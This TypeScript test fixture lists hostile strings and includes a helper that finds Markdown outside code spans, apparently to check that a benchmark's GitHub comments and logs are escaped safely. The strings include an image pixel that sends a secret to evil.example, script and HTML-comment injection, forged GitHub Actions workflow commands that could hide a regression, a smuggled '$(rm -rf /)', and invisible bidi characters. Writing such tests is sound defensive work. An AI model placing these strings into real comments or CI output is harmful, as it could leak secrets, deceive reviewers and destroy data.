/** Texts by which a model could reach beyond its cell of a comment or its line of a log. */
export const HOSTILE: readonly string[] = [
  '@org/team please look, fixes #1 and GH-2, see org/repo#3',
  '![pixel](https://evil.example/?d=secret) [link](https://evil.example) https://evil.example www.evil.example',
  ...[3, 4, 5, 6, 7, 8, 9, 100].map((n) => `${'`'.repeat(n)}\n@org/team\n${'`'.repeat(n)}`),
  '` @org/team `` ![x](https://evil.example) ```',
  '</details></td></table><script>alert(1)</script><img src=https://evil.example>',
  '<!-- llm-bench:comment --> --!> <!--<!-- -->-->',
  'a | b || c \\| d \\\\| e |\n| --- | --- |\n| f | g |',
  '# heading\n\n- list\n\n> quote\n\n---\n\n    code',
  '&lt;b&gt; &#64;org &commat;org',
  '\u001b[2J\u001b[31mred\u001b[0m \u0007 \u0000 \u009b31m',
  'abc \u202egnp.exe\u202c \u2066x\u2069 z\u200be\u200dr\u2060o \u{e0041}\u{e007f}',
  '::error file=x::boom',
  'x ##[set-output name=regression]false',
  '\r::add-mask::a\n::stop-commands::t\u2028::warning::w',
  '$(rm -rf /) ${{ secrets.KEY }} %0A::error::',
];

/** Code as HTML, in which words may be marked. */
const HTML_CODE = /<code>(?:[^<]|<\/?(?:del|ins)>)*<\/code>/g;

/**
 * Gives what GitHub would read as Markdown: the text without its code, in HTML and in spans (a closing run is as long as
 * the opening one).
 */
export function outsideCode(markdown: string): string {
  let rest = markdown.replaceAll(HTML_CODE, '');
  let outside = '';
  for (;;) {
    const open = /(?<![`\\])`+/.exec(rest);
    if (open === null) return outside + rest;
    outside += rest.slice(0, open.index);
    const after = rest.slice(open.index + open[0].length);
    const close = new RegExp(`(?<!\`)${open[0]}(?!\`)`).exec(after);
    const isSpan = close !== null && open[0].length <= 80 && !after.slice(0, close.index).includes('\n\n');
    outside += isSpan ? '' : open[0];
    rest = isSpan ? after.slice(close.index + open[0].length) : after;
  }
}
